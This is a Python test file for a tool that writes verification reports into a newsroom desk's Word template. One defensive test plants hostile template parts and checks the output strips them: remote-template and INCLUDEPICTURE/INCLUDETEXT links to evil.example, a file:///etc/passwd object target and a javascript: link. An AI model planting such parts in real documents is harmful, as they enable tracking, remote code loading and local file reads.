"""Reports in a desk's own template: placeholders, styles that win, and bad templates."""

import io
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.shared import Cm
from lxml import etree
from PIL import Image

from reports.model import ReportContent
from reports.options import ReportOptions, Variant
from reports.word import write_report
from workbench.errors import Leak, OutputProblem

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def logo() -> io.BytesIO:
    stream = io.BytesIO()
    Image.new("RGB", (60, 20), "maroon").save(stream, "PNG")
    stream.seek(0)
    return stream


@pytest.fixture
def template(tmp_path: Path) -> Path:
    document = Document()
    head = document.sections[0].header.paragraphs[0]
    head.add_run().add_picture(logo())
    head.add_run("{{st")
    head.add_run("ory").bold = True
    head.add_run("}} by {{ Checker }}")
    document.sections[0].footer.paragraphs[0].add_run("{{kind}}, {{date}} {{time}}")
    document.add_paragraph("For the desk {{desk}} only")
    document.add_paragraph("{{report}}")
    document.add_paragraph("Imprint")
    path = tmp_path / "desk.docx"
    document.save(str(path))
    return path


def changed(template: Path, change: dict[str, bytes | None], *, name: str = "changed.docx") -> Path:
    """Write a template again with other parts; None leaves a part out."""
    path = template.with_name(name)
    with zipfile.ZipFile(template) as old, zipfile.ZipFile(path, "w") as new:
        for part in old.namelist():
            if part not in change:
                new.writestr(part, old.read(part))
        for part, content in change.items():
            if content is not None:
                new.writestr(part, content)
    return path


def read(template: Path, part: str) -> bytes:
    with zipfile.ZipFile(template) as package:
        return package.read(part)


def in_template(content: ReportContent, template: Path, **options: Any) -> ReportContent:
    return replace(content, options=ReportOptions(template=template, **options))


def written(content: ReportContent, path: Path) -> dict[str, bytes]:
    write_report(content, path, overwrite=True)
    Document(str(path))
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def words(content: bytes) -> str:
    return "".join(node.text or "" for node in etree.fromstring(content).iter(f"{W}t"))


def test_placeholders_are_filled_in_wherever_they_stand(homs: Any, template: Path, tmp_path: Path) -> None:
    parts = written(in_template(homs.report(), template), tmp_path / "report.docx")
    header = next(words(content) for name, content in parts.items() if "/header" in name)
    footer = next(words(content) for name, content in parts.items() if "/footer" in name)
    assert header == "Rebels reach the edge of Homs by Rana Haddad"
    assert footer == "Verification report, 20 Nov 2026 16:05"
    text = words(parts["word/document.xml"])
    assert text.startswith("For the desk World only" + "Verification report")
    assert text.endswith("Imprint")
    assert "{{" not in text
    assert any("picture" in name for name in parts), "the logo is there"


def test_the_templates_styles_win_and_ours_are_added(homs: Any, template: Path, tmp_path: Path) -> None:
    theirs = etree.fromstring(read(template, "word/styles.xml"))
    for style in theirs.iter(f"{W}style"):
        if style.get(f"{W}styleId") == "Heading1":
            style.set(f"{W}styleId", "berschrift1")
    german = changed(template, {"word/styles.xml": etree.tostring(theirs)})
    parts = written(in_template(homs.report(), german), tmp_path / "report.docx")
    styles = [
        node.get(f"{W}styleId") for node in etree.fromstring(parts["word/styles.xml"]).iter(f"{W}style")
    ]
    assert "berschrift1" in styles
    assert "Heading1" not in styles
    assert {"QuotedWords", "ClaimNumber", "ReportTable", "Kicker"} <= set(styles)
    assert len(styles) == len(set(styles))
    used = {
        node.get(f"{W}val")
        for node in etree.fromstring(parts["word/document.xml"]).iter(
            f"{W}pStyle", f"{W}rStyle", f"{W}tblStyle"
        )
    }
    assert used <= set(styles)


def test_tables_fit_the_templates_page(homs: Any, template: Path, tmp_path: Path) -> None:
    parts = written(in_template(homs.report(), template), tmp_path / "report.docx")
    root = etree.fromstring(parts["word/document.xml"])
    size, margins = root.find(f".//{W}pgSz"), root.find(f".//{W}pgMar")
    assert size is not None
    assert margins is not None
    across = (
        int(size.get(f"{W}w", "0")) - int(margins.get(f"{W}left", "0")) - int(margins.get(f"{W}right", "0"))
    )
    widths = {sum(int(c.get(f"{W}w", "0")) for c in grid) for grid in root.iter(f"{W}tblGrid")}
    assert all(across - 12 <= width <= across for width in widths)


def test_a_template_without_header_or_styles_falls_back(homs: Any, template: Path, tmp_path: Path) -> None:
    inside = "<w:body><w:p><w:r><w:t>Letterhead</w:t></w:r></w:p></w:body>"
    bare = f'<w:document xmlns:w="{MAIN}">{inside}</w:document>'
    relations = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
    plain = changed(
        template,
        {
            "word/document.xml": bare.encode(),
            "word/_rels/document.xml.rels": relations.encode(),
            "word/styles.xml": None,
        },
    )
    parts = written(in_template(homs.report(), plain), tmp_path / "report.docx")
    text = words(parts["word/document.xml"])
    assert text.startswith("LetterheadVerification report")
    headers = [words(content) for name, content in parts.items() if "/header" in name]
    assert "Rebels reach the edge of HomsVerification report · names protected people" in headers


HOSTILE_RELATIONS = "".join(
    f'<Relationship Id="{key}" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
    for key, kind, target in (
        ("x1", "image", "http://evil.example/pixel.png"),
        ("x2", "attachedTemplate", "http://evil.example/t.dotm"),
        ("x3", "oleObject", "file:///etc/passwd"),
        ("x4", "hyperlink", "https://paper.example/"),
        ("x5", "hyperlink", "javascript:alert(1)"),
        ("x6", "aFChunk", "http://evil.example/chunk.html"),
        ("x7", "subDocument", "http://evil.example/sub.docx"),
    )
)
HOSTILE_BODY = (
    '<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="x1"/></w:drawing></w:r></w:p>'
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="x3"/></w:object></w:r></w:p>'
    '<w:p><w:hyperlink r:id="x4"><w:r><w:t>paper</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:hyperlink r:id="x5"><w:r><w:t>script</w:t></w:r></w:hyperlink></w:p>'
    '<w:altChunk r:id="x6"/><w:subDoc r:id="x7"/>'
    '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/p.png "><w:r><w:t>shown</w:t></w:r>'
    "</w:fldSimple></w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r>'
    '<w:instrText>TEXT "http://evil.example" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    "</w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r>'
    '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
)  # fmt: skip


def test_nothing_in_a_hostile_template_reaches_out(homs: Any, template: Path, tmp_path: Path) -> None:
    document = read(template, "word/document.xml").decode()
    head, rest = document.split("<w:body>")
    relations = read(template, "word/_rels/document.xml.rels").decode()
    relations = relations.replace("</Relationships>", f"{HOSTILE_RELATIONS}</Relationships>")
    settings = (
        f'<w:settings xmlns:w="{MAIN}" xmlns:r="{RELATION}"><w:attachedTemplate r:id="t"/><w:mailMerge/>'
        "<w:evenAndOddHeaders/></w:settings>"
    )
    hostile = changed(
        template,
        {
            "word/document.xml": f"{head}<w:body>{HOSTILE_BODY}{rest}".encode(),
            "word/_rels/document.xml.rels": relations.encode(),
            "word/settings.xml": settings.encode(),
            "word/embeddings/object1.bin": b"MZ",
        },
    )
    parts = written(in_template(homs.report(), hostile), tmp_path / "report.docx")
    everything = b"".join(parts.values())
    for word in (b"evil.example", b"passwd", b"javascript", b"attachedTemplate", b"INCLUDE", b"mailMerge"):
        assert word not in everything, word
    assert not any("embeddings" in name for name in parts)
    assert b"https://paper.example/" in parts["word/_rels/document.xml.rels"]
    assert b"evenAndOddHeaders" in parts["word/settings.xml"]
    text = words(parts["word/document.xml"])
    assert text.startswith("paperscriptshown")
    assert b" PAGE " in parts["word/document.xml"]


def test_relationship_ids_of_the_template_do_not_meet_ours(homs: Any, template: Path, tmp_path: Path) -> None:
    relations = read(template, "word/_rels/document.xml.rels").decode()
    document = read(template, "word/document.xml").decode()
    key = etree.fromstring(document.encode()).find(f".//{W}headerReference").get(f"{{{RELATION}}}id")  # type: ignore[union-attr]
    clashing = changed(
        template,
        {
            "word/document.xml": document.replace(f'r:id="{key}"', 'r:id="link1"').encode(),
            "word/_rels/document.xml.rels": relations.replace(f'Id="{key}"', 'Id="link1"').encode(),
        },
    )
    parts = written(in_template(homs.report(), clashing), tmp_path / "report.docx")
    listed = etree.fromstring(parts["word/_rels/document.xml.rels"])
    ids = [node.get("Id") for node in listed]
    assert len(ids) == len(set(ids))
    assert {"link1", "desklink1"} <= set(ids)


def test_an_unknown_placeholder_is_named(homs: Any, template: Path, tmp_path: Path) -> None:
    document = read(template, "word/document.xml").replace(b"{{desk}}", b"{{storry}}")
    wrong = changed(template, {"word/document.xml": document})
    with pytest.raises(
        OutputProblem, match=r"placeholder “\{\{storry\}\}”, which is not known; known are \{\{story\}\}"
    ):
        write_report(in_template(homs.report(), wrong), tmp_path / "report.docx", overwrite=False)
    assert not (tmp_path / "report.docx").exists()


def test_too_narrow_a_page_is_refused(homs: Any, template: Path, tmp_path: Path) -> None:
    document = Document(str(template))
    document.sections[0].right_margin = Cm(10.8)
    document.save(str(template))
    with pytest.raises(OutputProblem, match=r"leaves 7\.6 cm for the text"):
        write_report(in_template(homs.report(), template), tmp_path / "report.docx", overwrite=False)


def broken(template: Path, how: str) -> Path:
    path = template.with_name("broken.docx")
    match how:
        case "empty":
            path.write_bytes(b"")
        case "text":
            path.write_bytes(b"Dear all")
        case "cut":
            path.write_bytes(template.read_bytes()[:9000])
        case "protected":
            path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 9)
        case "macros":
            return changed(template, {"word/vbaProject.bin": b"x"}, name=path.name)
        case "no document":
            return changed(template, {"word/document.xml": None}, name=path.name)
        case "bad XML":
            return changed(template, {"word/document.xml": b"<w:document"}, name=path.name)
        case "bad styles":
            return changed(template, {"word/styles.xml": b"<w:styles"}, name=path.name)
        case "strict":
            strict = b'<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>'
            return changed(template, {"word/document.xml": strict}, name=path.name)
        case "a folder":
            path.mkdir()
        case _:
            pass
    return path


@pytest.mark.parametrize(
    ("how", "told"),
    [
        ("empty", "The file is empty"),
        ("text", "is not a Word document"),
        ("cut", "damaged"),
        ("protected", "protected with a password"),
        ("macros", "has macros; save it in Word as a plain Word document"),
        ("no document", "is not a Word document"),
        ("bad XML", "damaged"),
        ("bad styles", "damaged"),
        ("strict", "Strict Open XML"),
        ("a folder", "cannot be read"),
        ("missing", "cannot be read"),
    ],
)
def test_an_unusable_template_is_told_in_a_sentence(
    homs: Any, template: Path, tmp_path: Path, how: str, told: str
) -> None:
    path = broken(template, how)
    with pytest.raises(OutputProblem, match=told) as refused:
        write_report(in_template(homs.report(), path), tmp_path / "report.docx", overwrite=False)
    assert str(refused.value).endswith(".")
    assert not (tmp_path / "report.docx").exists()


def test_a_protected_name_in_a_template_is_a_leak(template: Path, tmp_path: Path, homs: Any) -> None:
    document = Document(str(template))
    document.sections[0].header.paragraphs[0].add_run(" ask A").add_text("ziz")
    document.save(str(template))
    content = replace(
        homs.report(names_withheld=True), options=ReportOptions(variant=Variant.REDACTED, template=template)
    )
    with pytest.raises(Leak, match="it stands in a header or footer"):
        write_report(content, tmp_path / "report.docx", overwrite=False)


def test_an_arabic_story_runs_right_to_left_in_a_template(
    new_desk: Any, template: Path, tmp_path: Path
) -> None:
    desk = new_desk(text="سقطت المدينة يوم الجمعة.", title="سقوط المدينة", language="ar")
    desk.split_at_full_stops()
    desk.claim("سقطت المدينة")
    parts = written(in_template(desk.report(), template), tmp_path / "report.docx")
    section = etree.fromstring(parts["word/document.xml"]).find(f".//{W}body/{W}sectPr")
    assert section is not None
    assert section.find(f"{W}bidi") is not None
    header = next(etree.fromstring(c) for name, c in parts.items() if "/header" in name)
    assert header.find(f".//{W}rPr/{W}rtl") is not None
